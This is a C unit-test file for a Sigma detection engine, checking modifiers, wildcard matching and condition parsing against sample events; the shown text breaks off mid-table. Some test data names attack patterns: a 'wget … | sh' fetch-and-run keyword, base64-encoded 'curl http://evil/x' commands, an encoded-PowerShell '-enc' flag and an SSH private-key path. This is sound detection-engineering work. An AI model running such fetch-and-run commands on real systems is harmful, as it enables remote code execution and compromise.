/*
 * Unit tests of the Sigma detection engine (sigma_rule_*): every modifier,
 * every condition form, and the rejection messages. Match cases are data:
 * a detection block, an event (fields "Name=value", a message) and the
 * expected verdict.
 *
 * Decision documented and tested here: "1 of X" / "all of X" where the
 * pattern X matches no search identifier is rejected at load time with
 * "'1 of X' matches no search identifier" (like pySigma), not evaluated as
 * false.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sigma.h"

#define HEADER "title: t\nid: 0000\nlogsource:\n  product: linux\ndetection:\n"
/* The detection block starts on line 6 of every test document. */

static struct decoded dec;	/* big: static */
static char names[8][64];
static struct ms_yaml_node **ph_docs;
static size_t ph_ndocs;

static const struct ms_yaml_node *
placeholder_cb(const char *name, void *arg)
{
	(void)arg;
	return ph_ndocs > 0 ? ms_yaml_get(ph_docs[0], name) : NULL;
}

static int
setup(void **state)
{
	static const char ph[] = "admins: [root, admin]\nuser: bob\nempty: []\n";
	char err[256];

	(void)state;
	return ms_yaml_parse(ph, strlen(ph), &ph_docs, &ph_ndocs, err, sizeof(err));
}

static int
teardown(void **state)
{
	(void)state;
	ms_yaml_docs_free(ph_docs, ph_ndocs);
	return 0;
}

/* Parses HEADER + text (text NULL-free YAML); NULL with err on rejection. */
static struct sigma_rule *
rule_from_doc(const char *doc, char *err, size_t errsz)
{
	struct ms_yaml_node **docs = NULL;
	size_t n = 0;
	struct sigma_rule *r;

	if (ms_yaml_parse(doc, strlen(doc), &docs, &n, err, errsz) < 0)
		return NULL;
	assert_int_equal(n, 1);
	r = sigma_rule_parse(docs[0], "t.yml", placeholder_cb, NULL, err, errsz);
	ms_yaml_docs_free(docs, n);
	return r;
}

static struct sigma_rule *
rule_from(const char *detection, char *err, size_t errsz)
{
	size_t n = strlen(HEADER) + strlen(detection) + 1;
	char *doc = malloc(n);
	struct sigma_rule *r;

	assert_non_null(doc);
	snprintf(doc, n, "%s%s", HEADER, detection);
	r = rule_from_doc(doc, err, errsz);
	free(doc);
	return r;
}

/* Fills dec with "Name=value" fields; the message goes to ev. */
static void
make_event(struct sigma_event *ev, const char *const *fields, const char *message)
{
	memset(ev, 0, sizeof(*ev));
	decode_reset(&dec);
	for (size_t i = 0; i < 8 && fields != NULL && fields[i] != NULL; i++) {
		const char *eq = strchr(fields[i], '=');
		assert_non_null(eq);
		assert_true((size_t)(eq - fields[i]) < sizeof(names[i]));
		memcpy(names[i], fields[i], (size_t)(eq - fields[i]));
		names[i][eq - fields[i]] = '\0';
		assert_int_equal(decode_field_add(&dec, names[i], eq + 1, strlen(eq + 1)), 0);
	}
	ev->d = &dec;
	if (message != NULL)
		ev->message = ms_str_make(message, strlen(message));
}

struct mcase {
	const char *name;
	const char *detection;
	const char *fields[8];
	const char *message;
	bool expect;
};

static const struct mcase match_cases[] = {
	/* --- plain values, case, wildcards, escapes --- */
	{ "eq ci", "  sel:\n    CommandLine: whoami\n  condition: sel\n",
	    { "CommandLine=WHOAMI" }, NULL, true },
	{ "eq is whole value", "  sel:\n    CommandLine: whoami\n  condition: sel\n",
	    { "CommandLine=whoami /all" }, NULL, false },
	{ "absent field", "  sel:\n    CommandLine: whoami\n  condition: sel\n",
	    { "Image=whoami" }, NULL, false },
	{ "field name ci", "  sel:\n    commandline: whoami\n  condition: sel\n",
	    { "CommandLine=whoami" }, NULL, true },
	{ "cased mismatch", "  sel:\n    CommandLine|cased: WhoAmI\n  condition: sel\n",
	    { "CommandLine=whoami" }, NULL, false },
	{ "cased match", "  sel:\n    CommandLine|cased: WhoAmI\n  condition: sel\n",
	    { "CommandLine=WhoAmI" }, NULL, true },
	{ "cased contains", "  sel:\n    c|contains|cased: Ab\n  condition: sel\n",
	    { "c=xxAbyy" }, NULL, true },
	{ "cased contains miss", "  sel:\n    c|contains|cased: Ab\n  condition: sel\n",
	    { "c=xxabyy" }, NULL, false },
	{ "star", "  sel:\n    c: 'who*i'\n  condition: sel\n", { "c=WHOAMI" }, NULL, true },
	{ "star empty run", "  sel:\n    c: 'who*ami'\n  condition: sel\n", { "c=whoami" }, NULL, true },
	{ "star backtrack", "  sel:\n    c: '*a*b*c'\n  condition: sel\n", { "c=xaxbxbxc" }, NULL, true },
	{ "star anchored end", "  sel:\n    c: 'a*b'\n  condition: sel\n", { "c=a-b-c" }, NULL, false },
	{ "only star", "  sel:\n    c: '*'\n  condition: sel\n", { "c=" }, NULL, true },
	{ "only star absent", "  sel:\n    c: '*'\n  condition: sel\n", { "d=x" }, NULL, false },
	{ "question", "  sel:\n    c: 'who?mi'\n  condition: sel\n", { "c=whoami" }, NULL, true },
	{ "question one byte", "  sel:\n    c: 'who?mi'\n  condition: sel\n", { "c=whoaami" }, NULL, false },
	/* '?' is one character: a UTF-8 sequence whole, else a byte */
	{ "question utf8", "  sel:\n    c: 'caf?'\n  condition: sel\n", { "c=caf\xc3\xa9" }, NULL, true },
	{ "question utf8 3 bytes", "  sel:\n    c: '?-?'\n  condition: sel\n",
	    { "c=\xe2\x82\xac-\xe1\xba\xa1" }, NULL, true },
	{ "question utf8 4 bytes", "  sel:\n    c: 'x?'\n  condition: sel\n", { "c=x\xf0\x9f\x98\x80" }, NULL, true },
	{ "two questions one char", "  sel:\n    c: 'caf?\?'\n  condition: sel\n", { "c=caf\xc3\xa9" }, NULL, false },
	{ "question latin1 byte", "  sel:\n    c: 'caf?'\n  condition: sel\n", { "c=caf\xe9" }, NULL, true },
	{ "question broken sequence", "  sel:\n    c: 'caf?\?'\n  condition: sel\n", { "c=caf\xc3" "x" }, NULL, true },
	{ "question overlong is bytes", "  sel:\n    c: '?'\n  condition: sel\n", { "c=\xc0\xaf" }, NULL, false },
	/* after a star, '?' starts on a character: "?b" needs one whole character before b */
	{ "star question utf8", "  sel:\n    c: '*?b'\n  condition: sel\n", { "c=\xc3\xa9" "b" }, NULL, true },
	{ "star two questions utf8", "  sel:\n    c: '*?\?b'\n  condition: sel\n", { "c=\xc3\xa9" "b" }, NULL, false },
	{ "contains question utf8", "  sel:\n    c|contains: 'n?v'\n  condition: sel\n",
	    { "c=xx n\xe1\xbb\x99v yy" }, NULL, true },
	{ "escaped star literal", "  sel:\n    c: 'a\\*b'\n  condition: sel\n", { "c=a*b" }, NULL, true },
	{ "escaped star no wild", "  sel:\n    c: 'a\\*b'\n  condition: sel\n", { "c=axb" }, NULL, false },
	{ "escaped question", "  sel:\n    c: 'a\\?'\n  condition: sel\n", { "c=a?" }, NULL, true },
	{ "escaped question no wild", "  sel:\n    c: 'a\\?'\n  condition: sel\n", { "c=ab" }, NULL, false },
	{ "escaped backslash then star", "  sel:\n    c: 'C:\\\\*'\n  condition: sel\n",
	    { "c=C:\\Windows" }, NULL, true },
	{ "escaped backslash needs one", "  sel:\n    c: 'C:\\\\*'\n  condition: sel\n",
	    { "c=C:Windows" }, NULL, false },
	{ "lone backslash literal", "  sel:\n    c: 'C:\\Windows\\cmd.exe'\n  condition: sel\n",
	    { "c=c:\\windows\\CMD.EXE" }, NULL, true },
	{ "empty value matches empty", "  sel:\n    c: ''\n  condition: sel\n", { "c=" }, NULL, true },
	{ "empty value not absent", "  sel:\n    c: ''\n  condition: sel\n", { "d=" }, NULL, false },
	{ "empty value not text", "  sel:\n    c: ''\n  condition: sel\n", { "c=x" }, NULL, false },
	{ "null absent", "  sel:\n    c: null\n  condition: sel\n", { "d=x" }, NULL, true },
	{ "null empty", "  sel:\n    c: null\n  condition: sel\n", { "c=" }, NULL, true },
	{ "null set", "  sel:\n    c: null\n  condition: sel\n", { "c=x" }, NULL, false },
	{ "tilde null", "  sel:\n    c: ~\n  condition: sel\n", { "d=x" }, NULL, true },
	{ "quoted null is text", "  sel:\n    c: 'null'\n  condition: sel\n", { "c=NULL" }, NULL, true },
	{ "number as text", "  sel:\n    EventID: 4624\n  condition: sel\n", { "EventID=4624" }, NULL, true },
	{ "number not numeric", "  sel:\n    EventID: 4624\n  condition: sel\n", { "EventID=04624" }, NULL, false },
	{ "bool as text", "  sel:\n    f: true\n  condition: sel\n", { "f=True" }, NULL, true },
	{ "float as text", "  sel:\n    f: 1.50\n  condition: sel\n", { "f=1.5" }, NULL, false },

	/* --- lists and maps --- */
	{ "list or", "  sel:\n    c:\n      - a\n      - b\n  condition: sel\n", { "c=B" }, NULL, true },
	{ "list or miss", "  sel:\n    c: [a, b]\n  condition: sel\n", { "c=c" }, NULL, false },
	{ "map and", "  sel:\n    a: 1\n    b: 2\n  condition: sel\n", { "a=1", "b=2" }, NULL, true },
	{ "map and miss", "  sel:\n    a: 1\n    b: 2\n  condition: sel\n", { "a=1", "b=3" }, NULL, false },
	{ "list of maps 1", "  sel:\n    - a: 1\n      b: 2\n    - c: 3\n  condition: sel\n",
	    { "c=3" }, NULL, true },
	{ "list of maps 2", "  sel:\n    - a: 1\n      b: 2\n    - c: 3\n  condition: sel\n",
	    { "a=1", "b=2" }, NULL, true },
	{ "list of maps none", "  sel:\n    - a: 1\n      b: 2\n    - c: 3\n  condition: sel\n",
	    { "a=1", "c=4" }, NULL, false },
	{ "contains all", "  sel:\n    c|contains|all: [foo, bar]\n  condition: sel\n",
	    { "c=xBARyFOO" }, NULL, true },
	{ "contains all miss", "  sel:\n    c|contains|all: [foo, bar]\n  condition: sel\n",
	    { "c=xfoo" }, NULL, false },
	{ "all single", "  sel:\n    c|all: foo\n  condition: sel\n", { "c=foo" }, NULL, true },

	/* --- keywords --- */
	{ "keywords list", "  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n"
	    "  condition: keywords\n", { NULL }, "pam: Authentication Failure; x", true },
	{ "keywords miss", "  keywords:\n    - 'Failed password'\n  condition: keywords\n",
	    { "msg=Failed password" }, "accepted password", false },
	{ "keyword bare string", "  kw: 'segfault at'\n  condition: kw\n", { NULL },
	    "kernel: foo[1]: segfault at 0", true },
	{ "keyword wildcard", "  kw:\n    - 'wget * | sh'\n  condition: kw\n", { NULL },
	    "x wget http://e/a | sh y", true },
	{ "keyword wildcard miss", "  kw:\n    - 'wget * | sh'\n  condition: kw\n", { NULL },
	    "x wget http://e/a | bash", false /* " | sh" is not in " | bash" */ },
	{ "keyword question", "  kw:\n    - 'a?c'\n  condition: kw\n", { NULL }, "zzabcz", true },
	{ "keyword no message", "  kw:\n    - 'x'\n  condition: kw\n", { NULL }, NULL, false },
	{ "keywords all key", "  kw:\n    '|all':\n      - foo\n      - bar\n  condition: kw\n",
	    { NULL }, "bar and foo", true },
	{ "keywords all key miss", "  kw:\n    '|all':\n      - foo\n      - bar\n  condition: kw\n",
	    { NULL }, "foo only", false },
	{ "keyword and field", "  kw: [denied]\n  sel:\n    app: sshd\n  condition: kw and sel\n",
	    { "app=sshd" }, "Permission DENIED", true },

	/* --- startswith / endswith / contains --- */
	{ "startswith", "  sel:\n    c|startswith: kube-probe/\n  condition: sel\n",
	    { "c=Kube-Probe/1.2" }, NULL, true },
	{ "startswith miss", "  sel:\n    c|startswith: kube-probe/\n  condition: sel\n",
	    { "c=x kube-probe/1.2" }, NULL, false },
	{ "endswith", "  sel:\n    c|endswith: /bash\n  condition: sel\n", { "c=/usr/bin/bash" }, NULL, true },
	{ "endswith miss", "  sel:\n    c|endswith: /bash\n  condition: sel\n", { "c=/bin/bash2" }, NULL, false },
	{ "endswith inner wildcard", "  sel:\n    c|endswith: '/b?sh'\n  condition: sel\n",
	    { "c=/bin/bosh" }, NULL, true },
	{ "contains inner wildcard", "  sel:\n    c|contains: 'a*z'\n  condition: sel\n",
	    { "c=--a--z--" }, NULL, true },
	{ "contains empty", "  sel:\n    c|contains: ''\n  condition: sel\n", { "c=abc" }, NULL, true },
	{ "contains longer than value", "  sel:\n    c|contains: abcd\n  condition: sel\n",
	    { "c=abc" }, NULL, false },
	{ "non-ascii exact bytes", "  sel:\n    c|contains: 'é'\n  condition: sel\n",
	    { "c=caf\xc3\xa9" }, NULL, true },

	/* --- exists --- */
	{ "exists true", "  sel:\n    c|exists: true\n  condition: sel\n", { "c=" }, NULL, true },
	{ "exists true absent", "  sel:\n    c|exists: true\n  condition: sel\n", { "d=x" }, NULL, false },
	{ "exists false", "  sel:\n    c|exists: false\n  condition: sel\n", { "d=x" }, NULL, true },
	{ "exists false present", "  sel:\n    c|exists: false\n  condition: sel\n", { "c=x" }, NULL, false },

	/* --- re --- */
	{ "re", "  sel:\n    c|re: 'fo+bar'\n  condition: sel\n", { "c=xfoooobar" }, NULL, true },
	{ "re case-sensitive", "  sel:\n    c|re: 'FOO'\n  condition: sel\n", { "c=foo" }, NULL, false },
	{ "re i", "  sel:\n    c|re|i: 'FOO'\n  condition: sel\n", { "c=foo" }, NULL, true },
	{ "re anchored", "  sel:\n    c|re: '^a$'\n  condition: sel\n", { "c=ab" }, NULL, false },
	{ "re no m", "  sel:\n    c|re: '^b'\n  condition: sel\n", { "c=a\nb" }, NULL, false },
	{ "re m", "  sel:\n    c|re|m: '^b'\n  condition: sel\n", { "c=a\nb" }, NULL, true },
	{ "re no s", "  sel:\n    c|re: 'a.b'\n  condition: sel\n", { "c=a\nb" }, NULL, false },
	{ "re s", "  sel:\n    c|re|s: 'a.b'\n  condition: sel\n", { "c=a\nb" }, NULL, true },
	{ "re list all", "  sel:\n    c|re|all: ['^a', 'z$']\n  condition: sel\n", { "c=abcz" }, NULL, true },
	{ "re empty field", "  sel:\n    c|re: '^$'\n  condition: sel\n", { "c=" }, NULL, true },
	/* values shorter than the pattern's minimum length are misses without PCRE2 */
	{ "re min length short", "  sel:\n    c|re: '^.{6,}'\n  condition: sel\n", { "c=abcde" }, NULL,
	  false },
	{ "re min length exact", "  sel:\n    c|re: '^.{6,}'\n  condition: sel\n", { "c=abcdef" }, NULL,
	  true },
	{ "re min length utf", "  sel:\n    c|re: '(*UTF)^\\x{e9}{3}$'\n  condition: sel\n",
	  { "c=\xc3\xa9\xc3\xa9\xc3\xa9" }, NULL, true },
	{ "re min length lookahead", "  sel:\n    c|re: '(?=abc)a'\n  condition: sel\n", { "c=abc" }, NULL,
	  true },
	{ "re redos bounded", "  sel:\n    c|re: '^(a+)+$'\n  condition: sel\n",
	    { "c=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" }, NULL, false },

	/* --- cidr --- */
	{ "cidr v4", "  sel:\n    ip|cidr: 10.0.0.0/8\n  condition: sel\n", { "ip=10.1.2.3" }, NULL, true },
	{ "cidr v4 miss", "  sel:\n    ip|cidr: 10.0.0.0/8\n  condition: sel\n", { "ip=11.0.0.1" }, NULL, false },
	{ "cidr v4 odd prefix", "  sel:\n    ip|cidr: 172.16.0.0/12\n  condition: sel\n",
	    { "ip=172.31.255.255" }, NULL, true },
	{ "cidr v4 odd prefix miss", "  sel:\n    ip|cidr: 172.16.0.0/12\n  condition: sel\n",
	    { "ip=172.32.0.0" }, NULL, false },
	{ "cidr host bits ignored", "  sel:\n    ip|cidr: 192.168.1.77/24\n  condition: sel\n",
	    { "ip=192.168.1.1" }, NULL, true },
	{ "cidr /0", "  sel:\n    ip|cidr: 0.0.0.0/0\n  condition: sel\n", { "ip=8.8.8.8" }, NULL, true },
	{ "cidr /32", "  sel:\n    ip|cidr: 8.8.8.8/32\n  condition: sel\n", { "ip=8.8.8.9" }, NULL, false },
	{ "cidr no prefix", "  sel:\n    ip|cidr: 8.8.8.8\n  condition: sel\n", { "ip=8.8.8.8" }, NULL, true },
	{ "cidr v4-mapped", "  sel:\n    ip|cidr: 10.0.0.0/8\n  condition: sel\n",
	    { "ip=::ffff:10.9.9.9" }, NULL, true },
	{ "cidr not an ip", "  sel:\n    ip|cidr: 10.0.0.0/8\n  condition: sel\n", { "ip=10.x" }, NULL, false },
	{ "cidr v6", "  sel:\n    ip|cidr: '2001:db8::/32'\n  condition: sel\n",
	    { "ip=2001:db8:1::5" }, NULL, true },
	{ "cidr v6 miss", "  sel:\n    ip|cidr: '2001:db8::/32'\n  condition: sel\n",
	    { "ip=2001:db9::1" }, NULL, false },
	{ "cidr v6 vs v4 addr", "  sel:\n    ip|cidr: '::/0'\n  condition: sel\n", { "ip=1.2.3.4" }, NULL, false },
	{ "cidr v6 /127", "  sel:\n    ip|cidr: 'fe80::/127'\n  condition: sel\n", { "ip=fe80::1" }, NULL, true },
	{ "cidr list", "  sel:\n    ip|cidr: [10.0.0.0/8, 'fc00::/7']\n  condition: sel\n",
	    { "ip=fd00::1" }, NULL, true },

	/* --- numeric --- */
	{ "gt", "  sel:\n    n|gt: 5\n  condition: sel\n", { "n=6" }, NULL, true },
	{ "gt equal", "  sel:\n    n|gt: 5\n  condition: sel\n", { "n=5" }, NULL, false },
	{ "gte equal", "  sel:\n    n|gte: 5\n  condition: sel\n", { "n=5" }, NULL, true },
	{ "lt", "  sel:\n    n|lt: 5\n  condition: sel\n", { "n=-1" }, NULL, true },
	{ "lt miss", "  sel:\n    n|lt: 5\n  condition: sel\n", { "n=10" }, NULL, false },
	{ "lte float", "  sel:\n    n|lte: 5.5\n  condition: sel\n", { "n=5.5" }, NULL, true },
	{ "numeric not text order", "  sel:\n    n|gt: 9\n  condition: sel\n", { "n=10" }, NULL, true },
	{ "numeric bad field", "  sel:\n    n|gt: 5\n  condition: sel\n", { "n=6x" }, NULL, false },
	{ "numeric empty field", "  sel:\n    n|lt: 5\n  condition: sel\n", { "n=" }, NULL, false },
	/* decimal text only: not inf, hex or blanks around the number */
	{ "numeric inf field", "  sel:\n    n|gt: 100\n  condition: sel\n", { "n=INF" }, NULL, false },
	{ "numeric infinity field", "  sel:\n    n|gt: 100\n  condition: sel\n", { "n=Infinity" }, NULL, false },
	{ "numeric hex field", "  sel:\n    n|gt: 100\n  condition: sel\n", { "n=0x1F4" }, NULL, false },
	{ "numeric leading blank", "  sel:\n    n|gt: 100\n  condition: sel\n", { "n= 500" }, NULL, false },
	{ "numeric exponent field", "  sel:\n    n|gt: 100\n  condition: sel\n", { "n=5e2" }, NULL, true },
	{ "numeric signed field", "  sel:\n    n|lt: 0\n  condition: sel\n", { "n=-0.5" }, NULL, true },
	{ "numeric fraction only", "  sel:\n    n|lt: 1\n  condition: sel\n", { "n=.5" }, NULL, true },
	{ "numeric bare dot", "  sel:\n    n|lt: 1\n  condition: sel\n", { "n=." }, NULL, false },
	/* integers past 2^53 compare exactly */
	{ "numeric big integer", "  sel:\n    n|gt: 9007199254740992\n  condition: sel\n",
	    { "n=9007199254740993" }, NULL, true },
	{ "numeric big integer equal", "  sel:\n    n|gt: 9007199254740993\n  condition: sel\n",
	    { "n=9007199254740993" }, NULL, false },
	/* ... and past 64 bits on one side (a double would call them equal) */
	{ "numeric past int64 field", "  sel:\n    n|gt: 9223372036854775807\n  condition: sel\n",
	    { "n=9223372036854775808" }, NULL, true },
	{ "numeric below int64 field", "  sel:\n    n|lt: -9223372036854775808\n  condition: sel\n",
	    { "n=-9223372036854775809" }, NULL, true },
	{ "numeric past int64 rule", "  sel:\n    n|lt: 9223372036854775808\n  condition: sel\n",
	    { "n=9223372036854775807" }, NULL, true },
	{ "numeric past int64 rule gte", "  sel:\n    n|gte: 9223372036854775808\n  condition: sel\n",
	    { "n=9223372036854775807" }, NULL, false },

	/* --- neq --- */
	{ "neq differs", "  sel:\n    c|neq: a\n  condition: sel\n", { "c=b" }, NULL, true },
	{ "neq equal", "  sel:\n    c|neq: a\n  condition: sel\n", { "c=A" }, NULL, false },
	{ "neq absent", "  sel:\n    c|neq: a\n  condition: sel\n", { "d=b" }, NULL, false },
	{ "neq list none", "  sel:\n    c|neq: [a, b]\n  condition: sel\n", { "c=c" }, NULL, true },
	{ "neq list one", "  sel:\n    c|neq: [a, b]\n  condition: sel\n", { "c=b" }, NULL, false },
	{ "neq null", "  sel:\n    c|neq: null\n  condition: sel\n", { "c=x" }, NULL, true },
	{ "neq null empty", "  sel:\n    c|neq: null\n  condition: sel\n", { "c=" }, NULL, false },

	/* --- windash --- */
	{ "windash dash", "  sel:\n    c|windash|contains: ' -enc '\n  condition: sel\n",
	    { "c=ps -enc abc" }, NULL, true },
	{ "windash slash", "  sel:\n    c|windash|contains: ' -enc '\n  condition: sel\n",
	    { "c=ps /ENC abc" }, NULL, true },
	{ "windash en dash", "  sel:\n    c|contains|windash: ' -enc '\n  condition: sel\n",
	    { "c=ps \xe2\x80\x93" "enc abc" }, NULL, true },
	{ "windash em dash", "  sel:\n    c|contains|windash: ' -enc '\n  condition: sel\n",
	    { "c=ps \xe2\x80\x94" "enc abc" }, NULL, true },
	{ "windash horizontal bar", "  sel:\n    c|contains|windash: ' -enc '\n  condition: sel\n",
	    { "c=ps \xe2\x80\x95" "enc abc" }, NULL, true },
	{ "windash other char", "  sel:\n    c|contains|windash: ' -enc '\n  condition: sel\n",
	    { "c=ps +enc abc" }, NULL, false },
	{ "windash at start", "  sel:\n    c|windash: '-e'\n  condition: sel\n", { "c=/e" }, NULL, true },
	{ "windash inner dash kept", "  sel:\n    c|windash|contains: 'a-b'\n  condition: sel\n",
	    { "c=a/b" }, NULL, false },
	{ "windash inner dash exact", "  sel:\n    c|windash|contains: 'a-b'\n  condition: sel\n",
	    { "c=xa-bx" }, NULL, true },
	{ "windash list", "  sel:\n    c|windash|contains: [' -a ', ' -b ']\n  condition: sel\n",
	    { "c=x /b y" }, NULL, true },
	{ "windash with wildcard", "  sel:\n    c|windash: '* -e*'\n  condition: sel\n",
	    { "c=foo \xe2\x80\x94" "e bar" }, NULL, true },

	/* --- base64 / base64offset --- */
	{ "base64", "  sel:\n    c|base64: hello\n  condition: sel\n", { "c=aGVsbG8=" }, NULL, true },
	{ "base64 contains", "  sel:\n    c|base64|contains: hello\n  condition: sel\n",
	    { "c=x aGVsbG8= y" }, NULL, true },
	{ "base64 is cased", "  sel:\n    c|base64|contains: hello\n  condition: sel\n",
	    { "c=AGVSBG8=" }, NULL, false },
	{ "base64offset 0", "  sel:\n    c|base64offset|contains: 'http://'\n  condition: sel\n",
	    { "c=Y3VybCBodHRwOi8vZXZpbC94" }, NULL, true },
	{ "base64offset 1", "  sel:\n    c|base64offset|contains: 'http://'\n  condition: sel\n",
	    { "c=eGN1cmwgaHR0cDovL2V2aWwveA==" }, NULL, true },
	{ "base64offset 2", "  sel:\n    c|base64offset|contains: 'http://'\n  condition: sel\n",
	    { "c=eHhjdXJsIGh0dHA6Ly9ldmlsL3g=" }, NULL, true },
	{ "base64offset miss", "  sel:\n    c|base64offset|contains: 'http://'\n  condition: sel\n",
	    { "c=Y3VybCBmdHA6Ly9ldmlsL3g=" }, NULL, false },
	{ "base64offset all", "  sel:\n    c|base64offset|contains|all: ['curl', 'evil']\n"
	    "  condition: sel\n", { "c=Y3VybCBodHRwOi8vZXZpbC94" }, NULL, true },

	/* --- utf16 --- */
	{ "utf16le base64offset 0", "  sel:\n    c|utf16le|base64offset|contains: 'ping'\n"
	    "  condition: sel\n", { "c=YwBtAGQAIAAvAGMAIABwAGkAbgBnACAAMQAuADIALgAzAC4ANAA=" }, NULL, true },
	{ "utf16le base64offset 1", "  sel:\n    c|utf16le|base64offset|contains: 'ping'\n"
	    "  condition: sel\n", { "c=eABjAG0AZAAgAC8AYwAgAHAAaQBuAGcAIAAxAC4AMgAuADMALgA0AA==" }, NULL, true },
	{ "wide base64offset 2", "  sel:\n    c|wide|base64offset|contains: 'ping'\n"
	    "  condition: sel\n", { "c=eAB4AGMAbQBkACAALwBjACAAcABpAG4AZwAgADEALgAyAC4AMwAuADQA" }, NULL, true },
	{ "utf16le base64offset miss", "  sel:\n    c|utf16le|base64offset|contains: 'pong'\n"
	    "  condition: sel\n", { "c=YwBtAGQAIAAvAGMAIABwAGkAbgBnACAAMQAuADIALgAzAC4ANAA=" }, NULL, false },
	{ "utf16be base64", "  sel:\n    c|utf16be|base64: 'ping'\n  condition: sel\n",
	    { "c=AHAAaQBuAGc=" }, NULL, true },
	{ "utf16 bom base64", "  sel:\n    c|utf16|base64: 'ping'\n  condition: sel\n",
	    { "c=//5wAGkAbgBnAA==" }, NULL, true },

	/* --- fieldref --- */
	{ "fieldref equal", "  sel:\n    a|fieldref: b\n  condition: sel\n", { "a=Root", "b=root" }, NULL, true },
	{ "fieldref differ", "  sel:\n    a|fieldref: b\n  condition: sel\n", { "a=root", "b=bob" }, NULL, false },
	{ "fieldref absent", "  sel:\n    a|fieldref: b\n  condition: sel\n", { "a=root" }, NULL, false },
	{ "fieldref cased", "  sel:\n    a|fieldref|cased: b\n  condition: sel\n",
	    { "a=Root", "b=root" }, NULL, false },
	{ "fieldref contains", "  sel:\n    a|fieldref|contains: b\n  condition: sel\n",
	    { "a=/home/bob/x", "b=BOB" }, NULL, true },
	{ "fieldref startswith", "  sel:\n    a|fieldref|startswith: b\n  condition: sel\n",
	    { "a=/home/bob/x", "b=/home" }, NULL, true },
	{ "fieldref endswith miss", "  sel:\n    a|fieldref|endswith: b\n  condition: sel\n",
	    { "a=/home/bob/x", "b=/home" }, NULL, false },
	{ "fieldref no wildcards", "  sel:\n    a|fieldref: b\n  condition: sel\n",
	    { "a=xyz", "b=x*" }, NULL, false },

	/* --- expand --- */
	{ "expand list", "  sel:\n    u|expand: '%admins%'\n  condition: sel\n", { "u=ADMIN" }, NULL, true },
	{ "expand list miss", "  sel:\n    u|expand: '%admins%'\n  condition: sel\n", { "u=bob" }, NULL, false },
	{ "expand embedded", "  sel:\n    p|expand: '/home/%user%/.ssh/*'\n  condition: sel\n",
	    { "p=/home/bob/.ssh/id_rsa" }, NULL, true },
	{ "expand two placeholders", "  sel:\n    p|expand: '%admins%:%user%'\n  condition: sel\n",
	    { "p=root:bob" }, NULL, true },
	{ "expand contains", "  sel:\n    p|expand|contains: '%user%'\n  condition: sel\n",
	    { "p=x bob y" }, NULL, true },
	{ "expand lone percent", "  sel:\n    p|expand: '100%'\n  condition: sel\n", { "p=100%" }, NULL, true },
	/* "\%" is a plain percent sign: "\%admins%user%" is "%admins" then %user% */
	{ "expand escaped percent", "  sel:\n    p|expand: '\\%admins%user%'\n  condition: sel\n",
	    { "p=%adminsbob" }, NULL, true },
	{ "expand escaped percent miss", "  sel:\n    p|expand: '\\%admins%user%'\n  condition: sel\n",
	    { "p=rootuser%" }, NULL, false },
	{ "expand escaped percent at end", "  sel:\n    p|expand: '%user%50\\%'\n  condition: sel\n",
	    { "p=bob50%" }, NULL, true },
	/* "\\" stays a backslash (the glob's escape) and the placeholder after it expands */
	{ "expand escaped backslash", "  sel:\n    p|expand: 'c:\\\\%user%'\n  condition: sel\n",
	    { "p=c:\\bob" }, NULL, true },

	/* --- conditions --- */
	{ "and", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: a and b\n", { "x=1", "y=1" }, NULL, true },
	{ "and miss", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: a and b\n", { "x=1" }, NULL, false },
	{ "or", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: a or b\n", { "y=1" }, NULL, true },
	{ "not", "  a:\n    x: 1\n  condition: not a\n", { "x=2" }, NULL, true },
	{ "not not", "  a:\n    x: 1\n  condition: not not a\n", { "x=1" }, NULL, true },
	{ "not not not", "  a:\n    x: 1\n  condition: not not not a\n", { "x=1" }, NULL, false },
	{ "keywords upper case", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: a AND NOT b\n",
	    { "x=1" }, NULL, true },
	/* or < and: a or (b and c) */
	{ "precedence or and", "  a:\n    x: 1\n  b:\n    y: 1\n  c:\n    z: 1\n"
	    "  condition: a or b and c\n", { "x=1" }, NULL, true },
	{ "precedence or and 2", "  a:\n    x: 1\n  b:\n    y: 1\n  c:\n    z: 1\n"
	    "  condition: a or b and c\n", { "y=1" }, NULL, false },
	{ "parens", "  a:\n    x: 1\n  b:\n    y: 1\n  c:\n    z: 1\n"
	    "  condition: (a or b) and c\n", { "x=1" }, NULL, false },
	/* not binds tighter than and: (not a) and b */
	{ "precedence not", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: not a and b\n",
	    { "y=1" }, NULL, true },
	{ "precedence not 2", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: not a and b\n",
	    { "x=1", "y=1" }, NULL, false },
	{ "nested not parens", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: not (a and not (b))\n",
	    { "x=1", "y=1" }, NULL, true },
	{ "deep parens", "  a:\n    x: 1\n  condition: ((((((a))))))\n", { "x=1" }, NULL, true },
	{ "1 of pattern", "  sel_a:\n    x: 1\n  sel_b:\n    y: 1\n  condition: 1 of sel_*\n",
	    { "y=1" }, NULL, true },
	{ "all of pattern", "  sel_a:\n    x: 1\n  sel_b:\n    y: 1\n  condition: all of sel_*\n",
	    { "y=1" }, NULL, false },
	{ "all of pattern 2", "  sel_a:\n    x: 1\n  sel_b:\n    y: 1\n  condition: all of sel_*\n",
	    { "x=1", "y=1" }, NULL, true },
	{ "1 of them", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: 1 of them\n", { "y=1" }, NULL, true },
	{ "all of them skips _", "  a:\n    x: 1\n  _b:\n    y: 1\n  condition: all of them\n",
	    { "x=1" }, NULL, true },
	{ "1 of them skips _", "  a:\n    x: 1\n  _b:\n    y: 1\n  condition: 1 of them\n",
	    { "y=1" }, NULL, false },
	/* a pattern is "them" restricted to the names it matches: no '_' names either */
	{ "1 of pattern skips _", "  sel_a:\n    x: 1\n  _sel_b:\n    y: 1\n  condition: 1 of *sel_*\n",
	    { "y=1" }, NULL, false },
	{ "1 of star skips _", "  sel:\n    x: 1\n  _helper:\n    y: 1\n  condition: 1 of *\n",
	    { "y=1" }, NULL, false },
	{ "all of pattern skips _", "  sel_a:\n    x: 1\n  sel_b:\n    y: 1\n  _sel_x:\n    z: 1\n"
